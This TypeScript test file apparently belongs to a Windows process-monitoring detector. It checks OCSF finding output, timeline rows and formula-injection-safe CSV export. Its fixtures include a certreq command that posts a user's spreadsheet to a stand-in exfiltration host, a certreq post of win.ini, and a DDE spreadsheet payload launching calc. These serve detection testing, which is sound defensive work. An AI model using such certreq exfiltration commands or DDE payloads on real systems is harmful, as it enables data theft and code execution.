import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Correlator } from '../../src/correlate/index.js';
import type { Alert } from '../../src/model/alert.js';
import type { WinEvent } from '../../src/model/event.js';
import { toOcsfFinding } from '../../src/output/ocsf.js';
import { TIMELINE_HEADER, timelineCsv, timelineRows } from '../../src/output/timeline.js';
import { BUILTIN, CERTREQ, CMD, detections, rule, sec4688, sec4689, sysmonEnd, sysmonNetwork, sysmonStart } from './support/events.js';

function scan(events: WinEvent[], alertOn: (ev: WinEvent) => boolean, config?: ConstructorParameters<typeof Correlator>[0]): Alert[] {
  const c = new Correlator(config);
  const raised: Alert[] = [];
  for (const ev of events) {
    c.observe(ev);
    if (alertOn(ev)) raised.push(...c.alertsFor(ev, detections(ev, BUILTIN, rule('certreq-post-url-no-winini'))));
  }
  return c.finalize(raised);
}

const story = (): WinEvent[] => [
  sysmonStart({ time: '2026-04-01T08:00:00.1234567Z', guid: 'g-cmd', pid: 500, image: CMD, cmd: '=cmd|\' /C calc\'!A0', user: 'CONTOSO\\alice' }),
  sysmonStart({ time: '2026-04-01T08:00:05Z', guid: 'g-cr', pid: 600, ppid: 500, parentGuid: 'g-cmd', parentImage: CMD, image: CERTREQ, ofn: 'CertReq.exe', cmd: 'certreq -Post -config https://exfil.example/u "C:\\Users\\bob\\Documents\\a, \\"b\\".xlsx" out.txt' }),
  sysmonNetwork({ time: '2026-04-01T08:00:05.500Z', guid: 'g-cr', pid: 600, ip: '203.0.113.9', hostname: 'exfil.example', port: 443 }),
  sysmonEnd({ time: '2026-04-01T08:00:07Z', guid: 'g-cr', pid: 600, image: CERTREQ }),
];
const isCertreqStart = (ev: WinEvent): boolean => ev.system.eventId === 1 && ev.data['Image'] === CERTREQ;

test('OCSF Detection Finding: class, category, type, severity, finding_info, evidences, observables', () => {
  const alerts = scan(story(), isCertreqStart);
  assert.equal(alerts.length, 2);
  const doc = toOcsfFinding(alerts[0]!) as Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
  assert.equal(doc['class_uid'], 2004);
  assert.equal(doc['category_uid'], 2);
  assert.equal(doc['activity_id'], 1);
  assert.equal(doc['type_uid'], 200401);
  assert.equal(doc['severity_id'], 5);
  assert.equal(doc['severity'], 'Critical');
  assert.equal(doc['status_id'], 1);
  assert.equal(doc['time'], Date.parse('2026-04-01T08:00:05Z'));
  assert.equal(doc['metadata'].version, '1.3.0');
  assert.equal(doc['metadata'].product.name, 'procwatch');
  assert.equal(doc['metadata'].uid, alerts[0]!.id);
  assert.equal(doc['metadata'].correlation_uid, (alerts[0]!.context!.incident as { id: string }).id);
  assert.equal(doc['finding_info'].uid, alerts[0]!.id);
  assert.equal(doc['finding_info'].analytic.uid, 'certreq-download-upload');
  assert.equal(doc['finding_info'].analytic.type_id, 1);
  assert.deepEqual(doc['finding_info'].attacks[0].technique.uid, 'T1027');
  assert.deepEqual(doc['finding_info'].attacks[0].tactic, { uid: 'TA0005', name: 'Defense Evasion' });
  assert.deepEqual(doc['finding_info'].related_analytics.map((r: { uid: string }) => r.uid), ['certreq-post-url-no-winini']);
  assert.equal(doc['device'].hostname, 'WS01');
  assert.equal(doc['message'], alerts[0]!.context!.reason);
  const proc = doc['evidences'][0].process;
  assert.equal(proc.pid, 600);
  assert.equal(proc.uid, 'g-cr');
  assert.equal(proc.name, 'certreq.exe');
  assert.equal(proc.file.path, CERTREQ);
  assert.equal(proc.parent_process.pid, 500);
  assert.equal(proc.terminated_time, Date.parse('2026-04-01T08:00:07Z'));
  assert.ok(doc['evidences'].some((e: { url?: { url_string: string; hostname: string } }) => e.url?.url_string === 'https://exfil.example/u' && e.url.hostname === 'exfil.example'));
  assert.ok(doc['evidences'].some((e: { dst_endpoint?: { ip: string; port: number } }) => e.dst_endpoint?.ip === '203.0.113.9' && e.dst_endpoint.port === 443));
  assert.ok(doc['observables'].some((o: { type_id: number; value: string }) => o.type_id === 6 && o.value === 'https://exfil.example/u'));
  assert.ok(doc['observables'].some((o: { type_id: number; value: string }) => o.type_id === 1 && o.value === 'WS01'));
  assert.equal(doc['unmapped'].procwatch.severity, 'critical');
  // Valid JSON round trip (no undefined, no cycles).
  assert.deepEqual(JSON.parse(JSON.stringify(doc)), doc);
});

test('OCSF: a suppressed alert is status Suppressed and not is_alert', () => {
  const alerts = scan(story(), isCertreqStart, { config: { suppressions: [{ id: 's', host: 'WS01', reason: 'lab' }] } });
  const doc = toOcsfFinding(alerts[0]!);
  assert.equal(doc['status_id'], 3);
  assert.equal(doc['status'], 'Suppressed');
  assert.equal(doc['is_alert'], false);
});

test('timeline: one row per event, merged across alerts, time-ordered, with parent, network and end rows', () => {
  const alerts = scan(story(), isCertreqStart);
  const rows = timelineRows(alerts);
  assert.deepEqual(rows.map((r) => r.relation), ['parent', 'alert', 'network', 'termination']);
  assert.deepEqual(rows.map((r) => r.timestamp_desc), ['Process Start', 'Process Start', 'Network Connection', 'Process End']);
  const alertRow = rows[1]!;
  assert.deepEqual(alertRow.rule_ids, ['certreq-download-upload', 'certreq-post-url-no-winini']);
  assert.equal(alertRow.alert_ids.length, 2, 'two rules on one event: one row, both alerts');
  assert.equal(alertRow.severity, 'critical');
  assert.equal(rows[0]!.timestamp, Date.parse('2026-04-01T08:00:00.123Z') * 1000 + 456, 'microseconds kept');
  assert.match(rows[2]!.detail!, /exfil\.example \(203\.0\.113\.9\):443/);
});

test('timeline CSV: RFC 4180 quoting and formula-injection-safe cells', () => {
  const csv = timelineCsv(scan(story(), isCertreqStart));
  const lines = csv.split('\r\n');
  assert.equal(lines[0], TIMELINE_HEADER.join(','));
  assert.equal(lines.length, 6, 'header + 4 rows + trailing empty string');
  const records = parseCsv(csv);
  assert.ok(records.every((r) => r.length === TIMELINE_HEADER.length), 'every row has every column');
  const col = (name: string): number => TIMELINE_HEADER.indexOf(name as (typeof TIMELINE_HEADER)[number]);
  // The parent's command line starts with '=' (a DDE payload): it is neutralised with a leading apostrophe.
  assert.equal(records[1]![col('command_line')], '\'=cmd|\' /C calc\'!A0');
  // Quotes and commas inside a cell survive the round trip.
  assert.equal(records[2]![col('command_line')], 'certreq -Post -config https://exfil.example/u "C:\\Users\\bob\\Documents\\a, \\"b\\".xlsx" out.txt');
});

test('timeline with Security 4688/4689: child rows and exit status', () => {
  const events = [
    sec4688({ time: '2026-04-02T09:00:00Z', pid: 0x900, ppid: 0x4, image: CERTREQ, cmd: 'certreq -Post -config https://x.example/ c:\\windows\\win.ini o.txt' }),
    sec4688({ time: '2026-04-02T09:00:01Z', pid: 0x950, ppid: 0x900, image: 'C:\\Windows\\System32\\conhost.exe', cmd: 'conhost.exe' }),
    sec4689({ time: '2026-04-02T09:00:02Z', pid: 0x900, image: CERTREQ, status: 1 }),
  ];
  const rows = timelineRows(scan(events, (ev) => ev.system.eventId === 4688 && ev.data['NewProcessName'] === CERTREQ));
  assert.deepEqual(rows.map((r) => r.relation), ['alert', 'child', 'termination']);
  assert.equal(rows[2]!.detail, 'exit status 0x1');
  assert.equal(rows[1]!.parent_pid, 0x900);
});

/** A small RFC 4180 reader for the assertions. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return out;
}
